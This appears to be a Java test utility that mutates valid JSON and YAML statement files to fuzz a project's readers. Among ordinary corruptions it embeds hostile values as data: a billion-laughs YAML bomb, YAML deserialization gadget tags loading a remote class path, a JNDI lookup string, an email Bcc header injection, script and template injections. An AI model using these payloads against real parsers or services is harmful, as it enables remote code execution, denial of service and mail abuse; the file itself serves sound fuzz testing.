package io.github.liaisonproject.model.testing;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/**
 * Mutations of valid statement and directory files, for fuzzing readers: each turns the bytes of a
 * valid JSON or YAML file into a broken or hostile one, deterministically for a given
 * {@link Random}. Framework-free, like {@link StatementGenerators}.
 *
 * <p>Kinds: truncation; random byte flips, insertions and deletions; invalid UTF-8 sequences;
 * values of the wrong type; huge strings; deep nesting; "billion laughs" YAML anchors and aliases;
 * duplicate keys; duplicated, deleted or swapped lines; unknown fields; YAML tags (including Java
 * class tags); several documents; header-injection strings as values; splices of two files.
 */
public final class FileMutations {
  private FileMutations() {}

  /** The names of the mutation kinds, in the order {@link #mutate} numbers them. */
  public static final List<String> KINDS = List.of("truncate", "flip", "insert-bytes", "delete-bytes", "invalid-utf8",
      "wrong-type", "huge-string", "deep-nesting", "billion-laughs", "duplicate-key", "lines", "unknown-field",
      "yaml-tag", "documents", "hostile-value", "splice", "stacked");

  /**
   * A mutation and the kind it was. The array is the record's own: do not change it.
   *
   * @param kind one of {@link FileMutations#KINDS}
   * @param bytes the mutated file
   */
  public record Mutant(String kind, byte[] bytes) {}

  /**
   * {@return one mutation of {@code valid}, of a kind drawn from {@link #KINDS}; {@code valid} itself is not
   * changed}
   * @param r the source of randomness; not null
   * @param valid the bytes of a valid file; not null
   * @param json true when {@code valid} is JSON, false for YAML
   * @param other the bytes of another valid file, for splices; not null
   */
  public static Mutant mutate(Random r, byte[] valid, boolean json, byte[] other) {
    int kind = r.nextInt(KINDS.size());
    byte[] out = apply(kind, r, valid, json, other);
    return new Mutant(KINDS.get(kind), out);
  }

  private static byte[] apply(int kind, Random r, byte[] b, boolean json, byte[] other) {
    String text = new String(b, StandardCharsets.UTF_8);
    switch (KINDS.get(kind)) {
      case "truncate":
        return Arrays.copyOf(b, r.nextInt(b.length + 1));
      case "flip": {
        byte[] c = b.clone();
        for (int i = 0, n = 1 + r.nextInt(8); i < n && c.length > 0; i++) {
          c[r.nextInt(c.length)] ^= (byte) (1 << r.nextInt(8));
        }
        return c;
      }
      case "insert-bytes": {
        byte[] junk = new byte[1 + r.nextInt(16)];
        r.nextBytes(junk);
        return splice(b, r.nextInt(b.length + 1), 0, junk);
      }
      case "delete-bytes": {
        int at = r.nextInt(b.length + 1);
        return splice(b, at, Math.min(b.length - at, 1 + r.nextInt(32)), new byte[0]);
      }
      case "invalid-utf8": {
        byte[][] bad = {{(byte) 0xC3, 0x28}, {(byte) 0xFF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF0, (byte) 0x28, (byte) 0x8C},
            {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xE2, (byte) 0x82}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0x80}};
        return splice(b, r.nextInt(b.length + 1), 0, bad[r.nextInt(bad.length)]);
      }
      case "wrong-type":
        return replaceValue(r, text, json, pick(r, json
            ? new String[] {"123", "-1.5e308", "true", "null", "[]", "{}", "[1,2]", "{\"a\":1}", "\"\"", "\"2025-13-45\"", "1e999999"}
            : new String[] {"123", "-1.5e308", "true", "null", "~", "[]", "{}", "[1, 2]", "{a: 1}", "''", "2025-13-45", ".nan", "0x1F", "yes"}));
      case "huge-string": {
        int n = r.nextInt(10) == 0 ? 5_000_001 + r.nextInt(100) : 10_000 + r.nextInt(300_000);
        String huge = "x".repeat(n);
        return replaceValue(r, text, json, json ? "\"" + huge + "\"" : "'" + huge + "'");
      }
      case "deep-nesting": {
        int depth = r.nextBoolean() ? 150 + r.nextInt(100) : 1_000 + r.nextInt(20_000);
        boolean arrays = r.nextBoolean();
        String nested = (arrays ? "[" : "{\"a\":").repeat(depth) + "1" + (arrays ? "]" : "}").repeat(depth);
        if (!json && !arrays) {
          nested = "{a: ".repeat(depth) + "1" + "}".repeat(depth);
        }
        return replaceValue(r, text, json, nested);
      }
      case "billion-laughs": {
        StringBuilder y = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'i'; c++) {
          y.append(c).append(": &").append(c).append(" [");
          for (int i = 0; i < 9; i++) {
            y.append(i > 0 ? "," : "").append('*').append(prev);
          }
          y.append("]\n");
          prev = c;
        }
        String bomb = y.toString();
        return (r.nextBoolean() ? bomb + text : text + "\n" + bomb.replace("a: &a", "zz: &a")).getBytes(StandardCharsets.UTF_8);
      }
      case "duplicate-key": {
        List<String> lines = lines(text);
        List<Integer> keyed = new ArrayList<>();
        for (int i = 0; i < lines.size(); i++) {
          if (lines.get(i).matches("\\s*(- )?\"?[A-Za-z]+\"?\\s*:.*")) {
            keyed.add(i);
          }
        }
        if (keyed.isEmpty()) {
          return b;
        }
        int i = keyed.get(r.nextInt(keyed.size()));
        String line = lines.get(i).replaceFirst("^(\\s*)- ", "$1  ");
        if (json && !line.trim().endsWith(",")) {
          line = line + ",";
        }
        lines.add(i + 1, line);
        return String.join("\n", lines).getBytes(StandardCharsets.UTF_8);
      }
      case "lines": {
        List<String> lines = lines(text);
        if (lines.size() < 2) {
          return b;
        }
        int i = r.nextInt(lines.size());
        int j = r.nextInt(lines.size());
        switch (r.nextInt(4)) {
          case 0: lines.remove(i); break;
          case 1: lines.add(j, lines.get(i)); break;
          case 2: { String t = lines.get(i); lines.set(i, lines.get(j)); lines.set(j, t); break; }
          default: lines.set(i, " ".repeat(r.nextInt(5)) + lines.get(i).stripLeading() + (r.nextBoolean() ? "\t" : ""));
        }
        return String.join("\n", lines).getBytes(StandardCharsets.UTF_8);
      }
      case "unknown-field":
        return (json ? text.replaceFirst("\\{", "{\"sendBcc\": \"eve@example.org\", ")
            : "sendBcc: eve@example.org\n" + text).getBytes(StandardCharsets.UTF_8);
      case "yaml-tag":
        return replaceValue(r, text, json, pick(r, new String[] {"!!java.lang.Runtime {}", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.org/\"]]]]",
            "!!binary aGVsbG8=", "!!set {a, b}", "!!omap [a: 1]", "!!int x", "!<tag:yaml.org,2002:str> x", "!custom x", "!!float 1e400", "!!timestamp 2025-01-01"}));
      case "documents":
        return (text + (json ? "\n" + text : "\n---\n" + text)).getBytes(StandardCharsets.UTF_8);
      case "hostile-value":
        return replaceValue(r, text, json, quote(json, pick(r, new String[] {"a@b.org\r\nBcc: eve@example.org", "line\nbreak", "\u0000\u0007",
            "\u2028", "<script>alert(1)</script>", "${jndi:ldap://example.org/a}", "#{7*7}", "%s%n%x", "\uFEFF", "\uD800"})));
      case "splice": {
        int at = r.nextInt(b.length + 1);
        int from = r.nextInt(other.length + 1);
        int len = Math.min(other.length - from, r.nextInt(200));
        return splice(b, at, r.nextInt(20), Arrays.copyOfRange(other, from, from + len));
      }
      default: { // stacked: two or three of the cheap ones
        byte[] c = b;
        for (int i = 0, n = 2 + r.nextInt(2); i < n; i++) {
          int k;
          do {
            k = r.nextInt(KINDS.size() - 1);
          } while (KINDS.get(k).equals("huge-string") || KINDS.get(k).equals("deep-nesting") || KINDS.get(k).equals("billion-laughs"));
          c = apply(k, r, c, json, other);
        }
        return c;
      }
    }
  }

  private static String quote(boolean json, String s) {
    if (json) {
      StringBuilder q = new StringBuilder("\"");
      for (char c : s.toCharArray()) {
        q.append(c < 0x20 || c == '"' || c == '\\' ? String.format("\\u%04x", (int) c) : String.valueOf(c));
      }
      return q.append('"').toString();
    }
    return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\r", "\\r").replace("\n", "\\n")
        .replace("\u0000", "\\0").replace("\u0007", "\\a") + "\"";
  }

  /** Replaces the value after a random "key:" with the given text. */
  private static byte[] replaceValue(Random r, String text, boolean json, String value) {
    List<String> lines = lines(text);
    List<Integer> candidates = new ArrayList<>();
    for (int i = 0; i < lines.size(); i++) {
      if (lines.get(i).matches("\\s*(- )?\"?[A-Za-z]+\"?\\s*:\\s*\\S.*")) {
        candidates.add(i);
      }
    }
    if (candidates.isEmpty()) {
      return (text + value).getBytes(StandardCharsets.UTF_8);
    }
    int i = candidates.get(r.nextInt(candidates.size()));
    String line = lines.get(i);
    int colon = line.indexOf(':');
    String rest = line.substring(colon + 1).trim();
    String comma = json && rest.endsWith(",") ? "," : "";
    lines.set(i, line.substring(0, colon + 1) + " " + value + comma);
    return String.join("\n", lines).getBytes(StandardCharsets.UTF_8);
  }

  private static List<String> lines(String text) {
    return new ArrayList<>(Arrays.asList(text.split("\n", -1)));
  }

  private static byte[] splice(byte[] b, int at, int remove, byte[] insert) {
    ByteArrayOutputStream out = new ByteArrayOutputStream(b.length + insert.length);
    out.write(b, 0, at);
    out.write(insert, 0, insert.length);
    int rest = Math.min(b.length, at + remove);
    out.write(b, rest, b.length - rest);
    return out.toByteArray();
  }

  private static <T> T pick(Random r, T[] values) {
    return values[r.nextInt(values.length)];
  }
}
